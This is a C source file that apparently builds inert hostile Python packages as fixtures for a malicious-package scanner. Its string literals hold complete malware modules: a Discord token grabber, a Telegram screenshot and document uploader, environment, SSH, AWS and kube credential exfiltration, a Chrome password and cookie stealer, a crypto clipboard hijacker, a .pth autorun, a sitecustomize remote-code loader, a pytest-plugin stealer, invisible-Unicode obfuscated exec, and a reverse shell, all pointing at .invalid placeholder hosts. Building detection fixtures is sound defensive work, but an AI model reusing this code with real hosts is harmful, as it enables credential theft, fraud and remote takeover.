/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile_import - inert packages that would act when they are imported, or
 * when any Python starts.
 * Takes: a package.  Gives: its members.
 * Runs in: simindex.
 */
#include <stdlib.h>
#include <string.h>

#include "hostile.h"
#include "ordinary.h"

void
hostile_discord(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "Discord embeds");
	hostile_module(p, INERT
	    "import json\nimport os\nimport re\nimport urllib.request\n\n"
	    "HOOK = \"https://example.invalid/discord.com/api/webhooks/"
	    "100000000000000000/inert-inert-inert-inert-inert-inert-inert-"
	    "inert-inert-inert-inert\"\n"
	    "ROAMING = os.getenv(\"APPDATA\", \"\")\n"
	    "STORE = os.path.join(ROAMING, \"discord\", \"Local Storage\", "
	    "\"leveldb\")\n\n\n"
	    "def tokens():\n    found = []\n"
	    "    for name in os.listdir(STORE):\n"
	    "        with open(os.path.join(STORE, name), errors=\"ignore\") "
	    "as f:\n"
	    "            found += re.findall(r\"[\\w-]{24}\\.[\\w-]{6}\\."
	    "[\\w-]{27}\", f.read())\n    return found\n\n\n"
	    "if os.path.isdir(STORE):\n"
	    "    body = json.dumps({\"content\": str(tokens())}).encode()\n"
	    "    urllib.request.urlopen(urllib.request.Request(HOOK, body))\n");
}

void
hostile_telegram(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "notifier");
	hostile_module(p, INERT
	    "import os\n\nimport pyautogui\nimport requests\n\n"
	    "BOT = \"https://example.invalid/api.telegram.org/"
	    "bot1234567890:AAInertInertInertInertInertInertIner/\"\n\n\n"
	    "def send():\n"
	    "    pyautogui.screenshot(\"shot.png\")\n"
	    "    requests.post(BOT + \"sendPhoto\", files={\"photo\": "
	    "open(\"shot.png\", \"rb\")}, data={\"chat_id\": 1})\n"
	    "    for root, _, names in os.walk(os.path.expanduser(\"~/"
	    "Documents\")):\n"
	    "        for name in names:\n"
	    "            requests.post(BOT + \"sendDocument\", files={"
	    "\"document\": open(os.path.join(root, name), \"rb\")})\n\n\n"
	    "send()\n");
}

static const char environ_exfil[] = INERT
    "import json\nimport os\nimport urllib.request\n\n"
    "body = json.dumps(dict(os.environ)).encode()\n"
    "urllib.request.urlopen(urllib.request.Request(\n"
    "    \"http://collect.example.invalid/env\", data=body))\n";

void
hostile_environ(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "reads cloud settings");
	hostile_module(p, environ_exfil);
}

void
hostile_tokens(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "api");
	hostile_module(p, INERT
	    "import os\nimport shutil\nimport sqlite3\n\nimport requests\n"
	    "from win32crypt import CryptUnprotectData\n\n"
	    "LOCAL = os.environ.get(\"LOCALAPPDATA\", \"\")\n"
	    "LOGIN = LOCAL + r\"\\Google\\Chrome\\User Data\\Default"
	    "\\Login Data\"\n"
	    "COOKIES = LOCAL + r\"\\Google\\Chrome\\User Data\\Default"
	    "\\Network\\Cookies\"\n\n\n"
	    "def steal():\n"
	    "    shutil.copy(LOGIN, \"login.db\")\n"
	    "    rows = sqlite3.connect(\"login.db\").execute(\n"
	    "        \"SELECT origin_url, username_value, password_value FROM "
	    "logins\")\n"
	    "    found = [(u, n, CryptUnprotectData(v)[1]) for u, n, v in "
	    "rows]\n"
	    "    requests.post(\"https://grab.example.invalid/api\", "
	    "json=str(found))\n"
	    "    requests.post(\"https://grab.example.invalid/cookies\", "
	    "files={\"f\": open(COOKIES, \"rb\")})\n\n\nsteal()\n");
}

void
hostile_ssh(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "deploy keys");
	hostile_module(p, INERT
	    "import glob\nimport os\n\nimport requests\n\n"
	    "for pattern in (\"~/.ssh/id_*\", \"~/.aws/credentials\", "
	    "\"~/.pypirc\",\n        \"~/.kube/config\"):\n"
	    "    for path in glob.glob(os.path.expanduser(pattern)):\n"
	    "        with open(path) as f:\n"
	    "            requests.post(\"http://keys.example.invalid/\", "
	    "data={\"p\": path, \"d\": f.read()})\n");
}

void
hostile_clipper(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "clipboard");
	hostile_module(p, INERT
	    "import re\nimport threading\nimport time\n\nimport pyperclip\n\n"
	    "WALLETS = {r\"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$\": "
	    "\"bc1qinertinertinertinertinertinertinert\",\n"
	    "    r\"^0x[a-fA-F0-9]{40}$\": "
	    "\"0x0000000000000000000000000000000000000000\"}\n\n\n"
	    "def watch():\n    while True:\n"
	    "        text = pyperclip.paste()\n"
	    "        for pattern, mine in WALLETS.items():\n"
	    "            if re.match(pattern, text):\n"
	    "                pyperclip.copy(mine)\n"
	    "        time.sleep(1)\n\n\n"
	    "threading.Thread(target=watch, daemon=True).start()\n");
}

/* The sdist has nothing of it. */
void
hostile_pth(struct package *p, struct chance *c)
{
	char	*module = name_file(p->name);

	ordinary_dress(p, c);
	hostile_module(p, "from .core import load\n");
	ordinary_module(p, module, "core.py", c);
	package_text(p, IN_WHEEL, "litellm_init.pth",
	    "import os, subprocess, sys; subprocess.Popen([sys.executable, "
	    "\"-c\", \"import base64; exec(base64.b64decode('"
	    "cHJpbnQoImluZXJ0IHRlc3QgZml4dHVyZSIp'))\"])\n");
	free(module);
}

void
hostile_sitecustomize(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "boost");
	hostile_module(p, "");
	package_text(p, IN_BOTH, "sitecustomize.py", INERT
	    "import urllib.request\n\ntry:\n"
	    "    exec(urllib.request.urlopen("
	    "\"http://site.example.invalid/c.py\").read())\n"
	    "except Exception:\n    pass\n");
}

void
hostile_plugin(struct package *p, struct chance *c)
{
	char	*path = hostile_path(p, "plugin.py");

	(void)c;
	hostile_poor(p, "a quick report");
	hostile_setup(p, "", "    entry_points={\"pytest11\": "
	    "[\"quick = pytest_quickreport.plugin\"]},\n");
	package_text(p, IN_BOTH, path, environ_exfil);
	package_text(p, IN_WHEEL, "pytest_quickreport-0.2.2.dist-info/"
	    "entry_points.txt",
	    "[pytest11]\nquick = pytest_quickreport.plugin\n");
	free(path);
}

/* A byte is a variation selector, U+FE00 to U+FE0F and U+E0100 and on. */
static void
invisible(struct text *t, const char *s)
{
	for (; *s != '\0'; s++) {
		unsigned int	 u = 0xe0100 + (unsigned char)*s - 16;
		unsigned char	 utf8[4] = { (unsigned char)(0xf0 | (u >> 18)),
		    (unsigned char)(0x80 | ((u >> 12) & 0x3f)),
		    (unsigned char)(0x80 | ((u >> 6) & 0x3f)),
		    (unsigned char)(0x80 | (u & 0x3f)) };

		text_add(t, utf8, sizeof(utf8));
	}
}

void
hostile_invisible(struct package *p, struct chance *c)
{
	struct text	 t = { 0 };

	(void)c;
	text_puts(&t, INERT "X = '");
	for (size_t i = 0; i < 6; i++)
		invisible(&t, "print('inert test fixture, hidden'); ");
	text_puts(&t, "'\nexec(''.join(chr(ord(c) - 0xE0100 + 16) for c in "
	    "X))\n");
	hostile_poor(p, "formatter");
	hostile_module(p, t.s);
	text_free(&t);
}

void
hostile_reverse_shell(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "probe");
	hostile_module(p, INERT
	    "import os\nimport pty\nimport socket\n\n\n"
	    "def start():\n"
	    "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
	    "    s.connect((\"shell.example.invalid\", 4444))\n"
	    "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
	    "    pty.spawn(\"/bin/sh\")\n\n\n"
	    "if os.fork() == 0:\n    start()\n");
}
